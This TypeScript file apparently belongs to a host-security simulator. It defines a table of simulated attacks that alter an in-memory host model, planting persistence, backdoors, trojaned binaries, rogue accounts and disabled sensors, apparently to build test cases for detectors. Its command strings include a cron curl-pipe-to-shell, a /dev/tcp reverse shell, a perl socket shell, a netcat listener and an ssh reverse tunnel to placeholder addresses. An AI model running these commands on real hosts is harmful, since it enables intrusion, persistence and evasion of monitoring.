import type { Random } from '../../../simulator/fleet/random.ts'
import { addAccount, addCron, addUnit, basename, type HostState, run, tcp, write } from './state.ts'

/** What an attacker chose once: names and addresses that are the same on every host of a campaign. */
export interface Choice {
  readonly word: string
  readonly address: string
  readonly port: number
  /** Where the program is put. */
  readonly path: string
}

/** Changes a host as an attacker would. Returns `false` where the host has nothing for this attack to work on. */
export type Attack = (host: HostState, choice: Choice) => unknown

const SYLLABLES = 'ba ce di fo gu ha je ki lo mu ne pi ra so tu ve xi zo'.split(' ')

export function drawChoice(random: Random): Choice {
  const stem = random.pick(['', '', 'sys', 'kdev', 'dbus-', 'log', 'net', 'x'])
  const word = `${stem}${random.pick(SYLLABLES)}${random.pick(SYLLABLES)}${random.pick(SYLLABLES)}`
  const folder = random.pick([
    '/usr/sbin',
    `/usr/lib/${word}`,
    '/usr/local/sbin',
    '/usr/local/bin',
    `/opt/${word}`,
    `/opt/.${word}`,
    `/var/lib/.${word}`,
    '/usr/bin'
  ])
  return {
    word,
    address: `203.0.113.${random.between(2, 250)}`,
    port: random.pick([443, 4444, 8443, 3333, 53, 1337, 14433]),
    path: `${folder}/${word}`
  }
}

const SERVER =
  /\/(nginx|haproxy|node|java|gunicorn|php-fpm[\d.]*|puma|postgres|mysqld|redis-server|mongod|beam\.smp)$/
const server = (host: HostState) => host.processes.find(({ path }) => SERVER.test(path))

function change(host: HostState, path: string, content: string): boolean {
  if (!host.files.has(path)) return false
  write(host, path, content)
  return true
}

function replaceBinary(host: HostState, path: string, content: string): boolean {
  const binary = host.binaries.get(path)
  if (binary === undefined) return false
  host.binaries.set(path, { ...binary, content })
  return true
}

function stop(host: HostState, agent: string): boolean {
  const unit = host.units.get(`${agent}.service`)
  if (unit === undefined) return false
  host.units.set(unit.id, { ...unit, active: false })
  host.processes = host.processes.filter(
    ({ cgroup, path }) => !cgroup.includes(agent) && !basename(path).startsWith(agent)
  )
  return true
}

const library = (host: HostState) =>
  [...host.binaries.keys()].find(path => path.includes('pam_unix'))?.replace('pam_unix.so', '')

/** Attacks by name. Several are a single row of one table. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  cronDownload: (host, { word, address }) =>
    addCron(host, `/etc/cron.d/${word}`, `root curl -fsSL http://${address}/${word} | sh`),
  cronPlain: (host, { word, path }) => addCron(host, `/etc/cron.d/${word}`, `root ${path} -q`),
  crontabEncoded: (host, { word }) =>
    addCron(host, '/var/spool/cron/crontabs/root', `echo ${word}ZWNobyBoaQo= | base64 -d | bash`),
  cronAtReboot: (host, { path }) => addCron(host, '/var/spool/cron/crontabs/root', path, '@reboot'),
  unitImplant: (host, { word, path, address, port }) => {
    addUnit(host, `${word}.service`, { fragment: `/etc/systemd/system/${word}.service` })
    run(host, path, { connections: [{ address, port }] })
  },
  timerImplant: (host, { word }) => {
    addUnit(host, `${word}.timer`, { fragment: `/etc/systemd/system/${word}.timer` })
    addUnit(host, `${word}.service`, {
      fragment: `/etc/systemd/system/${word}.service`,
      state: 'static',
      active: false
    })
  },
  webShell: host => {
    const parent = server(host)
    if (parent === undefined) return false
    return run(host, '/usr/bin/dash', {
      user: parent.user,
      parent: parent.path,
      cgroup: parent.cgroup,
      cmdline: 'sh -c id'
    })
  },
  reverseShell: (host, { address, port }) => {
    const parent = server(host)
    run(host, '/usr/bin/bash', {
      user: parent?.user ?? 'root',
      parent: parent?.path ?? '/usr/bin/bash',
      cmdline: `bash -i >& /dev/tcp/${address}/${port} 0>&1`,
      connections: [{ address, port }]
    })
  },
  scriptShell: (host, { address, port }) => {
    run(host, '/usr/bin/perl', {
      cmdline: `perl -e use Socket;$i="${address}"`,
      connections: [{ address, port }]
    })
  },
  miner: (host, { word, address, port }) => {
    const path = `/${['tmp', 'var/tmp', 'dev/shm'][word.length % 3]}/.${word}/${word}`
    run(host, path, { user: server(host)?.user ?? 'nobody', connections: [{ address, port }] })
    write(host, path.slice(0, path.lastIndexOf('/')), '', { type: 'directory', mode: '0755' })
  },
  disguisedMiner: (host, { path, address }) => {
    run(host, path, { cmdline: '[kworker/1:2]', connections: [{ address, port: 3333 }] })
  },
  plainProgram: (host, { path, address, port }) => {
    run(host, path, { connections: [{ address, port }] })
  },
  deletedProgram: (host, { word }) => {
    run(host, `/usr/local/bin/${word}`, { onDisk: false })
  },
  memoryProgram: (host, { word, address, port }) => {
    run(host, `/memfd:${word}`, { connections: [{ address, port }] })
  },
  backdoorPort: (host, { port }) => {
    run(host, '/usr/bin/nc.openbsd', {
      cmdline: `nc -lkp ${port}`,
      listens: [tcp(port < 1024 ? 4444 : port)]
    })
  },
  proxyPort: (host, { path }) => {
    run(host, path, { listens: [tcp(1080)] })
  },
  sniffer: (host, { path }) => {
    run(host, path, { sniffs: true })
  },
  pamModule: (host, { word }) => {
    const folder = library(host)
    if (folder === undefined) return false
    host.binaries.set(`${folder}pam_${word}.so`, { package: 'libpam-modules', content: word })
    return change(host, '/etc/pam.d/sshd', word)
  },
  pamConfiguration: (host, { word }) => change(host, '/etc/pam.d/common-auth', word),
  pamTrojan: (host, { word }) => replaceBinary(host, `${library(host) ?? ''}pam_unix.so`, word),
  sshdTrojan: (host, { word }) => replaceBinary(host, '/usr/sbin/sshd', word),
  toolTrojan: (host, { word }) => replaceBinary(host, '/usr/bin/ps', word),
  editedVersion: (host, { word }) => {
    host.packages.set('openssh-server', `1:9.${word.length}p1`)
    return replaceBinary(host, '/usr/sbin/sshd', word)
  },
  sshdConfiguration: (host, { word }) => {
    write(host, `/etc/ssh/sshd_config.d/${word}.conf`, 'PermitRootLogin yes')
  },
  rootKey: (host, { word }) => addKey(host, 'root', word),
  personKey: (host, { word }) => addKey(host, host.accounts.has('ubuntu') ? 'ubuntu' : 'daemon', word),
  secondRoot: (host, { word }) => addAccount(host, word, { uid: 0, shell: '/bin/bash', password: 'active' }),
  newAdministrator: (host, { word }) =>
    addAccount(host, word, { uid: 1090, shell: '/bin/bash', password: 'active', groups: ['sudo'] }),
  wokenAccount: host => {
    const account = host.accounts.get('games')
    if (account === undefined) return false
    return addAccount(host, 'games', { ...account, shell: '/bin/bash', password: 'active' })
  },
  sudoRule: (host, { word }) => {
    host.sudoers.push({
      header: 'www-data',
      rule: 'ALL=(ALL) NOPASSWD: ALL',
      source: `/etc/sudoers.d/${word}`
    })
  },
  setuidShell: (host, { word }) => {
    host.setuid.add(`/usr/lib/${word}/${word}`)
  },
  setuidInTemporary: (host, { word }) => {
    write(host, `/var/tmp/.${word}`, word, { mode: '4755' })
  },
  capability: host => {
    host.capabilities.set('/usr/bin/python3.12', 'cap_setuid=ep')
  },
  kernelModule: (host, { word }) => {
    host.modules.add(word.replace(/-/g, '_'))
    host.taints.add('unsigned module')
  },
  persistentModule: (host, { word }) => {
    host.modules.add(word.replace(/-/g, '_'))
    host.taints.add('unsigned module')
    write(host, `/etc/modules-load.d/${word}.conf`, word)
  },
  preloadFile: (host, { word }) => {
    write(host, '/etc/ld.so.preload', `/usr/lib/${word}.so`)
  },
  preloadedService: (host, { word }) => {
    const target = server(host) ?? host.processes.find(({ path }) => path === '/usr/sbin/sshd')
    host.processes = host.processes.map(process =>
      process === target ? { ...process, preload: `/usr/lib/${word}.so` } : process
    )
    return target !== undefined
  },
  packageHook: (host, { word }) => {
    write(
      host,
      host.facts.os === 'ubuntu' ? `/etc/apt/apt.conf.d/99${word}` : `/etc/dnf/plugins/${word}`,
      word
    )
  },
  udevRule: (host, { word }) => {
    write(host, `/etc/udev/rules.d/99-${word}.rules`, word)
  },
  loginScript: (host, { word }) => {
    write(host, `/etc/profile.d/${word}.sh`, word)
  },
  changedProfile: (host, { word }) => change(host, '/etc/profile', word),
  bootScript: (host, { word }) => {
    write(host, '/etc/rc.local', word, { mode: '0755' })
  },
  greeting: (host, { word }) => {
    write(host, `/etc/update-motd.d/${word}`, word, { mode: '0755' })
  },
  unitGenerator: (host, { word }) => {
    write(host, `/etc/systemd/system-generators/${word}`, word, { mode: '0755' })
  },
  hostsEntry: (host, { address }) => {
    host.names.push({ kind: 'hosts', address, value: 'mirror.example' })
  },
  resolver: (host, { address }) => {
    host.names = host.names.map(name => (name.kind === 'nameserver' ? { ...name, address } : name))
  },
  packageSource: (host, { word }) => {
    host.sources.push({ uri: `http://${word}.example/repo`, release: 'main' })
  },
  hiddenProcess: (host, { word }) => {
    host.procMounts.push(`/proc/${1000 + word.length * 37}`)
  },
  stoppedAudit: host => stop(host, 'auditd'),
  stoppedLogging: host => stop(host, 'rsyslog'),
  stoppedSensor: host => {
    const sensor = [...host.units.keys()].find(id =>
      /^(hawkeye-sensor|nodewatch|sentryd|hostguard|logship)\./.test(id)
    )
    return sensor !== undefined && stop(host, sensor.replace('.service', ''))
  },
  removedSensor: host => {
    const sensor = [...host.units.keys()].find(id =>
      /^(hawkeye-sensor|nodewatch|sentryd|hostguard|logship)\./.test(id)
    )
    if (sensor === undefined) return false
    stop(host, sensor.replace('.service', ''))
    host.units.delete(sensor)
    return host.packages.delete(sensor.replace('.service', ''))
  },
  openFirewall: host => {
    host.firewall = host.firewall.map(rule =>
      rule.chain === 'INPUT' && rule.policy === 'DROP' ? { ...rule, policy: 'ACCEPT' } : rule
    )
  },
  weakKernel: host => {
    host.sysctls.set('kernel.yama.ptrace_scope', '0')
  },
  auditOff: host => {
    host.bootArguments.add('audit=0')
  },
  tunnel: (host, { word, address }) => {
    run(host, '/usr/bin/ssh', {
      cmdline: `ssh -N -R 2222:localhost:22 ${word}@${address}`,
      connections: [{ address, port: 22 }]
    })
  }
}

function addKey(host: HostState, name: string, word: string): boolean {
  const account = host.accounts.get(name)
  if (account === undefined) return false
  addAccount(host, name, {
    ...account,
    keys: [...account.keys, { text: `AAAAC3NzaC1lZDI1NTE5${word}`, options: '', comment: word }]
  })
  return true
}
